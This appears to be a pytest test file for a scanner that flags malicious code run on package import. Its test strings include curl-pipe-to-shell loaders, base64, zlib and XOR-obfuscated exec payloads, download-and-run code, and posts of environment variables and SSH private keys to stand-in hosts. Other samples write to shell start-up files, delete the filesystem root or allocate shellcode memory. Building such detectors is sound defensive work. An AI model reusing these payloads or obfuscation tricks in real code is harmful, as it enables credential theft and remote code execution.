"""What is found in code that an import runs, and what is not."""

import base64
import marshal
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandboxes.screening.detectors import import_time, reading_code
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told

LOADER = "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
ENCODED = base64.b64encode(LOADER.encode()).decode()
PACKED = base64.b64encode(zlib.compress(LOADER.encode()))
MARSHALLED = marshal.dumps(compile("print('inert')", "x", "exec"))
CRITICAL = Threat.CRITICAL

BAD = [
    pytest.param(
        "import os\nos.system('wget http://198.51.100.7/a -O- | sh')", "process-fetching", 2, id="system"
    ),
    pytest.param(
        "from os import system as s\ns('curl http://x.test/|sh')", "process-fetching", 2, id="from-as"
    ),
    pytest.param(
        "import os as o\na = o.system\na('curl http://x.test/|sh')", "process-fetching", 3, id="alias"
    ),
    pytest.param("from os import *\nsystem('curl http://x.test/|sh')", "process-fetching", 2, id="star"),
    pytest.param("import os\ngetattr(os, 'sys' + 'tem')('id')", "hidden-name", 2, id="getattr"),
    pytest.param("__import__('o' + 's').system('id')", "hidden-name", 1, id="dunder-import"),
    pytest.param(
        "import importlib\nimportlib.import_module('sub' + 'process').run(['id'])",
        "hidden-name",
        2,
        id="importlib",
    ),
    pytest.param(f"import base64\nexec(base64.b64decode('{ENCODED}'))", "exec-decoded", 2, id="base64"),
    pytest.param(
        f"import base64 as b, zlib as z\nexec(z.decompress(b.b64decode({PACKED!r})))",
        "exec-decoded",
        2,
        id="zlib",
    ),
    pytest.param(f"exec(bytes.fromhex('{LOADER.encode().hex()}').decode())", "exec-decoded", 1, id="hex"),
    pytest.param(
        f"exec(''.join(chr(c) for c in {[ord(each) for each in LOADER]}))", "exec-decoded", 1, id="chr-list"
    ),
    pytest.param(
        f"exec(''.join(map(chr, {[ord(each) for each in LOADER]})))", "exec-decoded", 1, id="map-chr"
    ),
    pytest.param(f"exec({LOADER[::-1]!r}[::-1])", "exec-decoded", 1, id="reversed"),
    pytest.param(
        f"k = 7\nexec(''.join([chr(c ^ k) for c in {[ord(each) ^ 7 for each in LOADER]}]))",
        "exec-decoded",
        2,
        id="xor",
    ),
    pytest.param(
        "out = ''\nfor c in DATA:\n    out += chr(c ^ 9)\nexec(out)", "exec-decoded", 4, id="xor-loop"
    ),
    pytest.param(
        f"import builtins, base64\nbuiltins.__dict__['ex' + 'ec'](base64.b64decode('{ENCODED}'))",
        "exec-decoded",
        2,
        id="builtins-dict",
    ),
    pytest.param(
        f"import codecs\neval(compile(codecs.decode('{ENCODED}'.encode(), 'base64'), 'x', 'exec'))",
        "exec-decoded",
        2,
        id="eval-compile",
    ),
    pytest.param(
        f"d = lambda s: __import__('base64').b64decode(s)\nexec(d('{ENCODED}'))",
        "exec-decoded",
        2,
        id="lambda",
    ),
    pytest.param(f"import marshal\nexec(marshal.loads({MARSHALLED!r}))", "exec-decoded", 2, id="marshal"),
    pytest.param(
        "from urllib.request import urlopen\nexec(urlopen('http://x.test/a').read())",
        "download-and-run",
        2,
        id="urlopen",
    ),
    pytest.param(
        "import requests\ntext = requests.get('http://x.test').text\neval(text)",
        "download-and-run",
        3,
        id="requests",
    ),
    pytest.param(
        "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.test/a', './a.bin')\n"
        "subprocess.Popen(['./a.bin'])",
        "download-and-run",
        3,
        id="download-file",
    ),
    pytest.param(
        "import requests, subprocess, sys\nwith open('a.py', 'wb') as f:\n"
        "    f.write(requests.get('http://x.test').content)\nsubprocess.call([sys.executable, 'a.py'])",
        "download-and-run",
        4,
        id="download-write",
    ),
    pytest.param(
        "import threading, requests\ndef go():\n    exec(requests.get('http://x.test').text)\n"
        "threading.Thread(target=go, daemon=True).start()",
        "download-and-run",
        3,
        id="thread",
    ),
    pytest.param(
        "import atexit, os\n@atexit.register\ndef go():\n    os.system('curl http://x.test | bash')",
        "process-fetching",
        4,
        id="atexit",
    ),
    pytest.param(
        "import os\nclass A:\n    def __init__(self):\n        self.run()\n    def run(self):\n"
        "        os.system('curl http://x.test | sh')\nA()",
        "process-fetching",
        6,
        id="class",
    ),
    pytest.param(
        "import os\ndef mark(f):\n    os.system('curl http://x.test | sh')\n    return f\n@mark\ndef good(): pass",
        "process-fetching",
        3,
        id="decorator",
    ),
    pytest.param(
        "import os\ndef f(a=os.system('curl http://x.test|sh')): pass", "process-fetching", 2, id="default"
    ),
    pytest.param(
        "import os, requests, socket\nrequests.post('http://x.test', data={'h': socket.gethostname()})",
        "host-told",
        2,
        id="host",
    ),
    pytest.param(
        "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.x.example.test')",
        "host-told",
        2,
        id="dns",
    ),
    pytest.param(
        "import pathlib\n(pathlib.Path.home() / '.bashrc').write_text('x')", "start-up-place", 2, id="bashrc"
    ),
    pytest.param(
        "import os\nopen(os.path.expanduser('~/.zshrc'), 'a').write('x')", "start-up-place", 2, id="zshrc"
    ),
    pytest.param("import shutil\nshutil.rmtree('/')", "destroy", 2, id="destroy"),
    pytest.param(
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 100, 0x3000, 0x40)",
        "shellcode",
        2,
        id="shellcode",
    ),
    pytest.param("ｅｘｅｃ(__import__('base64').b64decode('cGFzcw=='))", "exec-decoded", 1, id="letters"),
]


@pytest.mark.parametrize(("text", "rule", "line"), BAD)
def test_bad_code_is_found_at_its_line(text: str, rule: str, line: int) -> None:
    found = told(found_in(import_time, {"thing/__init__.py": text}))
    assert (f"import-time.{rule}", line, CRITICAL) in found


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("import os, requests\nrequests.post('http://x.test', json=dict(os.environ))", 2),
        (("import os, json, urllib.request as u\nd = json.dumps(dict(os.environ)).encode()\n"
         "u.urlopen(u.Request('http://x.test', data=d))"), 3),
        (("import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
         "requests.post('http://x.test', data=k)"), 3),
    ],
)  # fmt: skip
def test_what_is_collected_and_sent_on_import_is_critical(text: str, line: int) -> None:
    found = told(found_in(import_time, {"thing/__init__.py": text}))
    assert ("secrets.collect-and-send", line, CRITICAL) in found


GOOD = [
    # A reader of formulas: the names that one may have are put together of characters, and the formula is not.
    (
        "import binascii\ndef names(n):\n    return {chr(x): x for x in n}\n"
        "def worth(text, n):\n    return eval(text, {}, names(n))\n"
    ),
    (
        "import requests, subprocess, os\ndef newest(n):\n    found = n.find(env=os.environ)\n"
        "    return requests.get(found.address)\n"
    ),
    "import re, subprocess\nPATTERN = re.compile('x')\ndef run(x):\n    return subprocess.run(x)\n",
    "import os\nDEBUG = os.environ.get('DEBUG')\nPATH = dict(os.environ)\n",
    "import requests\nsession = requests.Session()\ndef get(u):\n    return session.get(u)\n",
    "import socket\nHAS = socket.has_ipv6\ns = socket.socket()\ns.bind(('::1', 0))\n",
    "import subprocess\nif __name__ == '__main__':\n    subprocess.run('curl http://x.test | sh', shell=True)\n",
    "import ctypes\nlib = ctypes.CDLL('libc.so.6')\n",
    "import base64\nICON = base64.b64decode('aGVsbG8=')\n",
    "import socket\nNAME = socket.gethostbyname(socket.gethostname())\n",
    "from collections import namedtuple\nP = namedtuple('P', 'x y')\neval('1 + 1')\n",
    "def system(x): return x\nsystem('curl http://x.test | sh')\n",
    "class os:\n    @staticmethod\n    def system(x): pass\nos.system('curl http://x.test | sh')\n",
    "import typing\nif typing.TYPE_CHECKING:\n    exec(__import__('base64').b64decode('cGFzcw=='))\n",
    "import requests\ndef upload(path):\n    return requests.post('http://x.test', data=open(path).read())\n",
]


@pytest.mark.parametrize("text", GOOD)
def test_look_alikes_are_no_more_than_low(text: str) -> None:
    assert told(found_in(import_time, {"thing/__init__.py": text}), Threat.MEDIUM) == set()


def test_functions_of_other_modules_are_followed() -> None:
    files = {
        "thing/__init__.py": "from ._setup import go\ngo()\n",
        "thing/_setup.py": "import os\ndef go():\n    os.system('curl http://x.test | sh')\n",
    }
    found = found_in(import_time, files)
    assert [(each.path, each.line, each.rule) for each in found] == [
        ("thing/_setup.py", 3, "import-time.process-fetching")
    ]
    files["thing/__init__.py"] = "from ._setup import go\n"
    assert found_in(import_time, files) == []


def test_tests_count_only_when_the_package_imports_them() -> None:
    files = {
        "thing/tests/evil.py": "import os\nos.system('curl http://x.test | sh')\n",
        "thing/__init__.py": "",
    }
    assert found_in(import_time, files) == []
    files["thing/__init__.py"] = "from thing.tests import evil\nprint()\n"
    assert told(found_in(import_time, files)) == {("import-time.process-fetching", 2, CRITICAL)}


def test_a_function_that_fetches_and_runs_is_told_of_though_nobody_calls_it() -> None:
    text = "import requests\ndef later():\n    exec(requests.get('http://x.test/a').text)\n"
    assert told(found_in(import_time, {"thing/a.py": text})) == {
        ("run-time.download-and-run", 3, Threat.HIGH)
    }
    assert found_in(import_time, {"thing/a.py": text.replace("exec", "print")}) == []


def test_an_address_that_nobody_knows_weighs_less() -> None:
    known = "import requests\nrequests.get('http://x.test/a')\n"
    assert told(found_in(import_time, {"thing/a.py": known})) == {("import-time.network", 2, Threat.HIGH)}
    unknown = "import requests, settings\nrequests.get(settings.address)\n"
    assert told(found_in(import_time, {"thing/a.py": unknown})) == {("import-time.network", 2, Threat.MEDIUM)}


def test_what_is_too_much_is_told() -> None:
    text = "import os\n" + "x = os.environ.get('a')\n" * 40_000
    found = told(found_in(import_time, {"thing/a.py": text}))
    assert found == {("import-time.not-looked-at", 0, Threat.LOW)}
    large = b"import os\n" + b"#" * reading_code.LARGEST
    assert told(found_in(import_time, {"thing/a.py": large})) == {
        ("import-time.not-looked-at", 0, Threat.LOW)
    }


def test_the_excerpt_is_the_line_as_it_stands() -> None:
    (found,) = found_in(
        import_time, {"thing/a.py": "import os\n  \nos.system('curl http://x.test|sh')  # hello\n"}
    )
    assert found.excerpt == "os.system('curl http://x.test|sh')  # hello"
    assert found.path == "thing/a.py"


HOSTILE = [
    b"import os\n" + b"(" * 3000 + b")" * 3000,
    b"import os\nx = " + b"-" * 5000 + b"1",
    b"import os\nx = " + b"[" * 150 + b"]" * 150,
    b"import os\nx = " + b"'a'+" * 9000 + b"'b'\nexec(x)",
    b"import os\nx = os" + b".a" * 5000 + b"()",
    b"import os\nx = os" + b"()" * 3000,
    b"import os\n" + b"".join(b" " * i + b"if x:\n" for i in range(95)) + b" " * 95 + b"os.system('x')",
    b"import os\nx = 'a' * 10**9 * 10**9\nexec(x)\ny = '%1000000000d' % 1\nexec(y)",
    b"a = [0]*9\n" + b"a = [a, a, a, a]\n" * 60 + b"exec('%s' % a)\nexec(str(a))",
    b"x = 'A' * 2000000\nexec(''.join([x] * 200000))\nexec(x.replace('A', x))",
    b"exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))",
    b"import os\0\nos.system('x')",
    b"# coding: utf-7\nimport os\n",
    b"# coding: nonsense\nimport os\n",
    b"\xff\xfeimport os",
    b"import os\na = b = a = b\ndef f(): f()\nf()\ndef g(): h()\ndef h(): g()\ng()\nclass A(A): pass\nA()",
    b"class A:\n    x = 1\nclass B(A): pass\nA.x = B\nB().x().x()\nexec(A)",
    b"print 'python 2'\nexec 'import os'\n",
    b"eval(" * 80 + b"'1'" + b")" * 80,
    b"exec('exec(\"exec(1)\")')",
    b"import os\nx = lambda: x()\nx()",
    b"import os\nfor os.system in [1]: os.system(1)\n[os.system for os.system in 'abc']",
]


@pytest.mark.parametrize("content", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_files_raise_nothing(content: bytes) -> None:
    found_in(import_time, {"thing/__init__.py": content, "setup.py": content}, Kind.SDIST)
    found_in(import_time, {"thing/__init__.py": content})


_LINES = """
exec( eval( os.system( __import__( getattr( ) ) ) ( [ ] ] 'a' 'os' b'00' + % ^ , = : . x y self lambda def class f():
if for in import from as os base64 urlopen( requests.get( * ** { } return @ [::-1] [0] .join( .decode( chr( ord(
10**9 globals() __builtins__ vars(
"""
_WORDS = st.sampled_from([*_LINES.split(), "\n", "\n", "\n    "])


@given(st.lists(_WORDS, max_size=60))
def test_any_words_raise_nothing(words: list[str]) -> None:
    found_in(import_time, {"thing/__init__.py": "import os\n" + " ".join(words)})


@given(st.binary(max_size=300))
def test_any_bytes_raise_nothing(content: bytes) -> None:
    found_in(import_time, {"thing/__init__.py": b"exec(1)\n" + content})
